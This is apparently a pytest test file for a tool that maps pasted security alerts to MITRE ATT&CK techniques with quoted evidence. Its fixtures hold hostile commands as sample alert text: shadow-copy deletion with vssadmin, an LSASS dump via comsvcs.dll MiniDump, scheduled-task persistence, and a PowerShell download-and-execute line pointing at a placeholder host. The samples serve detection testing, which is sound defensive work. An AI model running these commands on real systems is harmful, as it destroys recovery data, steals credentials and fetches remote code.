"""Pasted alerts become techniques with the words that say so, or a plain reason why not."""

from __future__ import annotations

import base64
from dataclasses import replace

import pytest

from knowledge.mapping import Confirmed, Evidence, Mapper, Mapping, Outcome, confirmation_evidence, detection_evidence
from knowledge.model import Domain

SHADOW = "Shadow Copies Deleted\nvssadmin.exe delete shadows /all /quiet was started by cmd.exe"
DUMP = "Possible credential theft\nrundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full"


def ids(mapping: Mapping) -> list[str]:
    return [each.id for each in mapping.techniques]


def assert_quotes_are_exact(text: str, mapping: Mapping) -> None:
    for each in mapping.techniques:
        assert each.evidence
        for quote in each.evidence:
            assert quote.quote
            assert text[quote.start : quote.end] == quote.quote
            assert quote.why


@pytest.mark.parametrize(("text", "first"), [(SHADOW, "T1490"), (DUMP, "T1003.001")])
def test_the_first_technique_is_the_one_the_words_say(mapper: Mapper, text: str, first: str) -> None:
    mapping = mapper.map(text)
    assert ids(mapping)[0] == first
    assert_quotes_are_exact(text, mapping)


def test_the_words_that_say_so_are_quoted(mapper: Mapper) -> None:
    first = mapper.map(SHADOW).techniques[0]
    assert "vssadmin.exe delete shadows" in {quote.quote for quote in first.evidence}
    assert first.name == "Inhibit System Recovery"
    assert first.tactics == ("Impact",)


def test_confidence_never_rises_down_the_list(mapper: Mapper) -> None:
    confidences = [each.confidence for each in mapper.map(DUMP).techniques]
    assert confidences == sorted(confidences, reverse=True)
    assert 0 < confidences[0] < 1


def test_what_the_author_named_comes_first_and_says_so(mapper: Mapper) -> None:
    text = f"{SHADOW}\nTags: T1086"
    first = mapper.map(text).techniques[0]
    assert (first.id, first.evidence[0].quote) == ("T1059.001", "T1086")
    assert first.evidence[0].why == "named in the text; T1086 is T1059.001 today"
    assert first.band == "high"


def test_a_bare_id_is_enough(mapper: Mapper) -> None:
    assert ids(mapper.map("T1490"))[0] == "T1490"


@pytest.mark.parametrize(
    "text",
    [
        "The wifi in the canteen is slow again, can somebody have a look?",
        "Backup of the mail server finished, 0 errors.",
        "Phishing awareness training is due by Friday, please book a seat.",
        "Lunch at noon?",
    ],
)
def test_everyday_text_gets_silence(mapper: Mapper, text: str) -> None:
    mapping = mapper.map(text)
    assert mapping.abstained
    assert mapping.techniques == ()
    assert mapping.outcome is Outcome.NOTHING
    assert mapping.reason == "No technique recognised. That does not mean it is harmless."


def test_a_list_of_indicators_is_told_so(mapper: Mapper) -> None:
    mapping = mapper.map(
        "IOCs\n9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n203.0.113.7\n203.0.113.8"
    )
    assert mapping.abstained
    assert "Indicators are not techniques" in mapping.reason
    assert "2 IP addresses and 1 SHA-256 hash" in mapping.reason
    assert {each.kind: each.count for each in mapping.indicators} == {"IP address": 2, "SHA-256 hash": 1}


@pytest.mark.parametrize("text", ["", "   \n", "!!! ??? ---", "\x00" * 50])
def test_no_words_no_answer(mapper: Mapper, text: str) -> None:
    assert mapper.map(text).reason == "There are no words in this text."


def test_an_encoded_command_is_decoded_and_quoted_as_it_stands(mapper: Mapper) -> None:
    run = base64.b64encode("vssadmin delete shadows /all /quiet".encode("utf-16-le")).decode()
    text = f"Suspicious process\npowershell.exe -nop -enc {run}"
    mapping = mapper.map(text)
    shadow = next(each for each in mapping.techniques if each.id == "T1490")
    assert run in {quote.quote for quote in shadow.evidence}
    assert any("decodes to “vssadmin delete shadows" in quote.why for quote in shadow.evidence)
    assert_quotes_are_exact(text, mapping)


def test_a_process_tree_is_several_behaviours(mapper: Mapper) -> None:
    text = """Process tree
winword.exe
  powershell.exe -nop -w hidden IEX(New-Object Net.WebClient).DownloadString('http://x/a.ps1')
    schtasks /create /tn upd /tr c:\\a.exe /sc onlogon
    rundll32.exe comsvcs.dll MiniDump 624 lsass.dmp full
    vssadmin delete shadows /all"""
    mapping = mapper.map(text)
    assert {"T1003.001", "T1053.005", "T1059.001", "T1490"} <= set(ids(mapping))
    assert mapping.furthest_tactic == "Impact"
    tactics = [tactic for tactic, _ in mapping.chain]
    assert [each for each in tactics if each != "Initial Access"] == ["Execution", "Credential Access", "Impact"]
    assert {each.act for each in mapping.techniques if each.id in ("T1003.001", "T1053.005", "T1490")} == {3, 4, 5}
    assert mapping.acts == 5


def test_the_release_is_named(mapper: Mapper) -> None:
    assert mapper.map(SHADOW).release == "Enterprise 18.1"


def test_an_alert_that_bears_a_rules_title_is_that_rules(mapper: Mapper) -> None:
    plain = "ALERT: Weird Frobnicator Launch on Kiosk, host KIOSK-3"
    assert "T1562.001" not in ids(mapper.map(plain))[:1]
    knowing = mapper.with_detections([detection_evidence("Weird Frobnicator Launch On Kiosk", ("T1562.001",))])
    first = knowing.map(plain).techniques[0]
    assert first.id == "T1562.001"
    assert first.evidence[0].quote == "Weird Frobnicator Launch on Kiosk"
    assert first.evidence[0].why == "the title of your detection “Weird Frobnicator Launch On Kiosk”"
    assert first.band == "high"


def test_a_title_in_running_prose_is_only_words(mapper: Mapper) -> None:
    knowing = mapper.with_detections([detection_evidence("Frobnicate Security Tools", ("T1562.001",))])

    def titled(text: str) -> bool:
        reasons = [quote.why for each in knowing.map(text).techniques for quote in each.evidence]
        return any(why.startswith("the title of") for why in reasons)

    assert titled("Rule Frobnicate Security Tools fired on KIOSK-3")
    assert titled("rule: frobnicate security tools (high)")
    assert titled('{"name": "FROBNICATE SECURITY TOOLS", "host": "KIOSK-3"}')
    assert not titled("PowerShell was seen; attackers often frobnicate security tools before they dump LSASS memory.")


def test_a_few_everyday_words_are_no_alert_however_like_a_rule(mapper: Mapper) -> None:
    knowing = mapper.with_detections([detection_evidence("Hello World", ("T1059",), "", ("echo hello world",))])
    assert knowing.map("Hello world").abstained


def test_the_teams_rules_say_what_a_name_is_worth(mapper: Mapper) -> None:
    text = "Scheduled Task on KIOSK-3"
    rules = [detection_evidence(f"Scheduled Task {each}", ("T1490",)) for each in ("wiped", "lost", "gone", "broken")]
    before = {each.id: each.confidence for each in mapper.map(text).techniques}
    after = {each.id: each.confidence for each in mapper.with_detections(rules).map(text).techniques}
    assert after["T1053.005"] < before["T1053.005"]


def _said(text: str, technique: str, *people: str) -> dict[Evidence, Confirmed]:
    """The same text confirmed by some people on a day."""
    piece = confirmation_evidence(text, technique, "3 May 2026")
    return {replace(piece, origin=by): Confirmed(by, "2026-05-03") for by in people}


ODD = "Suspicious execution of the remote gateway memory process on the domain at night"


def test_one_persons_word_is_shown_and_makes_nothing_sure(mapper: Mapper) -> None:
    before = {each.id: each.confidence for each in mapper.map(ODD).techniques}
    knowing = mapper.with_confirmations(_said(ODD, "T1566.001", "U1"))
    after = {each.id: each for each in knowing.map(ODD).techniques}
    assert after["T1566.001"].confirmed == (Confirmed("U1", "2026-05-03"),)
    assert after["T1566.001"].confidence <= 0.55
    assert after["T1566.001"].band == "low"
    for each, confidence in before.items():
        assert each == "T1566.001" or each not in after or after[each].confidence == confidence


def test_two_people_make_it_sure(mapper: Mapper) -> None:
    knowing = mapper.with_confirmations(_said(ODD, "T1566.001", "U1", "U2"))
    first = knowing.map(ODD).techniques[0]
    assert (first.id, len(first.confirmed)) == ("T1566.001", 2)
    assert first.confidence > 0.55
    assert "like one your team confirmed on 3 May 2026" in {quote.why for quote in first.evidence}
    assert mapper.map(ODD).techniques[:1] != (first,)


def test_what_was_said_wrong_is_less_sure_and_nothing_else_is(mapper: Mapper) -> None:
    before = {each.id: each.confidence for each in mapper.map(DUMP).techniques}
    wrong = [confirmation_evidence(DUMP, "T1003.001", "3 May 2026")]
    after = {each.id: each.confidence for each in mapper.with_confirmations({}, wrong).map(DUMP).techniques}
    assert after.get("T1003.001", 0.0) < before["T1003.001"]
    assert all(after[each] == before[each] for each in after.keys() & before.keys() - {"T1003.001"})


def test_detections_and_confirmations_are_known_together(mapper: Mapper) -> None:
    knowing = mapper.with_detections([detection_evidence("Weird Frobnicator Launch", ("T1562.001",))])
    both = knowing.with_confirmations(_said(SHADOW, "T1003", "U1", "U2"))
    assert ids(both.map("ALERT: Weird Frobnicator Launch"))[0] == "T1562.001"
    assert "T1003" in ids(both.map(SHADOW))[:2]


def test_a_detection_of_a_revoked_or_unknown_id_is_followed_or_left_out(mapper: Mapper) -> None:
    knowing = mapper.with_detections([detection_evidence("Weird Frobnicator Launch", ("T1086", "T9999"))])
    assert ids(knowing.map("Weird Frobnicator Launch"))[0] == "T1059.001"


def test_a_domain_without_techniques_has_no_answer(mapper: Mapper) -> None:
    assert mapper.map(SHADOW, Domain.ICS).techniques == ()


def test_mobile_and_ics_answer_when_the_text_says_so(real_mapper: Mapper) -> None:
    phone = "Android malware\nThe APK on the Android phone intercepts SMS messages and reads the contact list."
    assert any(each.id.startswith("T16") for each in real_mapper.map(phone).techniques)
    plant = "Modbus write to PLC\nThe engineering workstation changed PLC setpoints over Modbus from the HMI."
    assert all(each.id.startswith("T0") for each in real_mapper.map(plant, Domain.ICS).techniques)
    assert not any(each.id.startswith("T0") for each in real_mapper.map(SHADOW).techniques)


def test_nothing_retired_is_ever_answered(real_mapper: Mapper) -> None:
    text = "T1086 T1064 T1175 process injection, DLL side-loading, disabled Windows Defender, T1562"
    for each in real_mapper.map(text).techniques:
        found = real_mapper.catalog.get(each.id)
        assert found is not None
        assert not found.retired


def test_a_name_written_as_attack_writes_it_is_labelled_and_comes_before_what_is_less_sure(mapper: Mapper) -> None:
    text = "EDR: Inhibit System Recovery suspected after an odd script"
    first = mapper.map(text).techniques[0]
    assert (first.id, first.evidence[0].quote) == ("T1490", "Inhibit System Recovery")
    assert first.evidence[0].why == "named in the text"
    assert first.confidence >= 0.56


def test_a_named_parent_gives_way_to_the_sub_technique_the_words_decide(mapper: Mapper) -> None:
    text = f"OS Credential Dumping: {DUMP}"
    assert ids(mapper.map(text))[0] == "T1003.001"


def test_the_chain_runs_in_the_order_of_the_first_domains_matrix(real_mapper: Mapper) -> None:
    text = f"winword.exe started powershell.exe -enc\n{DUMP}\n{SHADOW}"
    tactics = [tactic for tactic, _ in real_mapper.map(text).chain]
    order = ["Execution", "Defense Evasion", "Credential Access", "Impact"]
    assert [tactic for tactic in tactics if tactic in order] == [each for each in order if each in tactics]
    assert real_mapper.map(text).furthest_tactic == "Impact"
